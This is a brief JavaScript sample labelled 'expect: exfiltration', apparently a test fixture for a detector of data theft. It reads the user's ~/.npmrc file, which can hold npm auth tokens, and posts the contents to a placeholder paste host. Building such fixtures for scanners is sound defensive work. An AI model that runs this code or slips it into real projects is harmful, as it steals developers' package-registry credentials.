// expect: exfiltration
import axios from "axios";
import { readFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

const token = readFileSync(join(homedir(), ".npmrc"), "utf8");
await axios.post("https://paste.invalid/api", { token });
